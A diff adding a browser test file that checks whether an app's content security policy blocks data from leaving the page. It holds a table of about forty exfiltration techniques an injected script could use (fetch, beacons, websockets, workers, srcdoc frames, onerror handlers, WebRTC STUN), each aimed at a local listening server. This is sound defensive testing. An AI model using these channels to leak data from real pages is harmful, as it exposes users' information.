@@ -1,0 +1,189 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { createSocket } from 'node:dgram';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { exported, give, openStart, reachReport, textFile, visit } from './harness';
+import { host, type StaticHost } from './server';
+import { SMALL_SHOP_CSV } from './small-shop';
+
+/**
+ * What a script that got into the page might try, to tell another server
+ * something. Each gets the address of a server that only listens.
+ */
+const WAYS: Record<string, string> = {
+  fetch: `fetch(to)`,
+  'fetch without cors': `fetch(to, { mode: 'no-cors', keepalive: true })`,
+  xhr: `{ const x = new XMLHttpRequest(); x.open('GET', to); x.send(); }`,
+  beacon: `navigator.sendBeacon(to, 'x')`,
+  websocket: `new WebSocket(to.replace('http', 'ws'))`,
+  eventsource: `new EventSource(to)`,
+  image: `new Image().src = to`,
+  srcset: `{ const i = new Image(); i.srcset = to + ' 1x'; add(i); }`,
+  'svg image': `{ const s = 'http://www.w3.org/2000/svg'; const e = document.createElementNS(s, 'svg'); const i = document.createElementNS(s, 'image'); i.setAttribute('href', to); e.append(i); add(e); }`,
+  background: `{ const d = document.createElement('div'); d.style.cssText = 'width:9px;height:9px'; d.style.backgroundImage = 'url(' + to + ')'; add(d); }`,
+  cursor: `{ const d = document.createElement('div'); d.style.content = 'url(' + to + ')'; add(d); }`,
+  'style sheet': `link('stylesheet')`,
+  'style element': `{ const s = document.createElement('style'); s.textContent = '@import url(' + to + ')'; add(s); }`,
+  font: `document.fonts.add(new FontFace('x', 'url(' + to + ')')), document.fonts.load('9px x')`,
+  script: `{ const s = document.createElement('script'); s.src = to; add(s); }`,
+  'module script': `{ const s = document.createElement('script'); s.type = 'module'; s.src = to; add(s); }`,
+  import: `import(to)`,
+  frame: `{ const f = document.createElement('iframe'); f.src = to; add(f); }`,
+  object: `{ const o = document.createElement('object'); o.data = to; add(o); }`,
+  embed: `{ const e = document.createElement('embed'); e.src = to; add(e); }`,
+  audio: `new Audio(to).play()`,
+  video: `{ const v = document.createElement('video'); v.src = to; v.preload = 'auto'; add(v); }`,
+  poster: `{ const v = document.createElement('video'); v.poster = to; add(v); }`,
+  track: `{ const v = document.createElement('video'); const t = document.createElement('track'); t.src = to; t.default = true; t.kind = 'captions'; v.append(t); add(v); t.track.mode = 'showing'; }`,
+  'form in a frame': `{ const f = document.createElement('form'); f.action = to; f.target = 'nowhere-frame'; const i = document.createElement('iframe'); i.name = 'nowhere-frame'; add(i); add(f); f.submit(); }`,
+  prefetch: `link('prefetch')`,
+  preload: `link('preload', 'image')`,
+  'preload of a script': `link('preload', 'script')`,
+  modulepreload: `link('modulepreload')`,
+  icon: `link('icon')`,
+  ping: `{ const a = document.createElement('a'); a.href = '#ping'; a.ping = to; add(a); a.click(); }`,
+  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '").catch(() => {})'])))`,
+  'worker import': `new Worker(URL.createObjectURL(new Blob(['importScripts("' + to + '")'])))`,
+  'worker socket': `new Worker(URL.createObjectURL(new Blob(['new WebSocket("' + to.replace('http', 'ws') + '")'])))`,
+  'frame of a blob': `{ const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="' + to + '">'], { type: 'text/html' })); add(f); }`,
+  'frame with a document': `{ const f = document.createElement('iframe'); f.srcdoc = '<img src="' + to + '">'; add(f); }`,
+  'refresh in a frame': `{ const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv="refresh" content="0;url=' + to + '">'; add(f); }`,
+  'markup with a picture': `{ const d = document.createElement('div'); d.innerHTML = '<img src="' + to + '">'; add(d); }`,
+  'markup with a handler': `{ const d = document.createElement('div'); d.innerHTML = '<img src="data:," onerror="fetch(\\'' + to + '\\')">'; add(d); }`,
+  'code from text': `new Function('fetch("' + to + '")')()`
+};
+
+interface Sink {
+  origin: string;
+  /** Ways by which something arrived. */
+  heard: Set<string>;
+  server: Server;
+}
+
+let sink: Sink;
+let app: StaticHost;
+let bare: StaticHost;
+let folder: string;
+
+beforeAll(async () => {
+  const heard = new Set<string>();
+  const note = (url: string | undefined): void => {
+    heard.add(decodeURIComponent((url ?? '').slice(1)));
+  };
+  const server = createServer((request, response) => {
+    note(request.url);
+    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
+  });
+  server.on('upgrade', (request, socket) => {
+    note(request.url);
+    socket.destroy();
+  });
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
+  const { port } = server.address() as AddressInfo;
+  sink = { origin: `http://127.0.0.1:${String(port)}`, heard, server };
+
+  app = await host();
+  folder = await mkdtemp(join(tmpdir(), 'mandegar-bare-'));
+  await writeFile(join(folder, 'index.html'), '<!doctype html><title>bare</title>');
+  bare = await host({ folder, headers: false });
+});
+afterAll(async () => {
+  await app.close();
+  await bare.close();
+  await rm(folder, { recursive: true });
+  sink.server.closeAllConnections();
+  await new Promise((done) => sink.server.close(done));
+});
+
+/** Tries every way from the page, and returns those that arrived. */
+async function tryAll(page: Page): Promise<string[]> {
+  sink.heard.clear();
+  for (const [way, code] of Object.entries(WAYS)) {
+    const to = `${sink.origin}/${encodeURIComponent(way)}`;
+    await page.evaluate(`(() => {
+      const to = ${JSON.stringify(to)};
+      const add = (node) => document.body.append(node);
+      const link = (rel, as) => { const l = document.createElement('link'); l.rel = rel; if (as) l.as = as; l.href = to; document.head.append(l); };
+      try { Promise.resolve(${code.startsWith('{') ? `(() => ${code})()` : code}).catch(() => {}); } catch {}
+    })()`);
+  }
+  await page.waitForTimeout(1500);
+  return [...sink.heard].sort();
+}
+
+describe('nothing leaves', () => {
+  it('knows ways that do reach another server from a page without a policy', async () => {
+    const guest = await visit(bare.origin);
+    await guest.page.goto(bare.url);
+    const arrived = await tryAll(guest.page);
+    await guest.close();
+    expect(arrived.length).toBeGreaterThan(30);
+  });
+
+  it.each([
+    ['a host that sends the headers', true],
+    ['a host that sends none, by the page’s own policy', false]
+  ])('from the app on %s', async (_, headers) => {
+    const server = await host({ headers });
+    const guest = await visit(server.origin);
+    await openStart(guest.page, server.url);
+    const arrived = await tryAll(guest.page);
+    await guest.close();
+    await server.close();
+    expect(arrived).toEqual([]);
+  });
+
+  it('from the app on a host that sends the headers, by navigation or WebRTC either', async (test) => {
+    const guest = await visit(app.origin);
+    const version = Number.parseInt(guest.context.browser()?.version() ?? '', 10);
+    // No policy stops these two; the header that does is Chromium's alone, since 152.
+    if (version < 152) {
+      await guest.close();
+      test.skip();
+    }
+    const udp = createSocket('udp4');
+    let datagrams = 0;
+    udp.on('message', () => {
+      datagrams += 1;
+    });
+    await new Promise<void>((done) => udp.bind(0, '127.0.0.1', done));
+    await openStart(guest.page, app.url);
+    sink.heard.clear();
+    const stun = `stun:127.0.0.1:${String(udp.address().port)}`;
+    await guest.page.evaluate(`(async () => {
+      const peer = new RTCPeerConnection({ iceServers: [{ urls: ${JSON.stringify(stun)} }] });
+      peer.createDataChannel('x');
+      await peer.setLocalDescription(await peer.createOffer());
+    })().catch(() => {})`);
+    await guest.page.waitForTimeout(800);
+    await guest.page
+      .evaluate(`void (location.href = ${JSON.stringify(`${sink.origin}/navigation`)})`)
+      .catch(() => undefined);
+    await guest.page.waitForTimeout(800);
+    await guest.close();
+    await new Promise<void>((done) => udp.close(() => done()));
+    expect([...sink.heard]).toEqual([]);
+    expect(datagrams).toBe(0);
+  });
+
+  it('during the whole journey: every request goes to the app’s own files', async () => {
+    const guest = await visit(app.origin);
+    const { page, record } = guest;
+    await openStart(page, app.url);
+    await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
+    const asked = app.requests.length;
+    await give(page, textFile('small-shop.csv', SMALL_SHOP_CSV));
+    await reachReport(page);
+    await exported(page, 'Results (JSON)');
+    await exported(page, 'Report image (PNG)');
+    // With every file kept on the device, even the app's own host hears nothing more.
+    expect(app.requests.slice(asked)).toEqual([]);
+    expect(record.violations).toEqual([]);
+    expect(guest.faults()).toEqual([]);
+    await guest.close();
+  });
+});
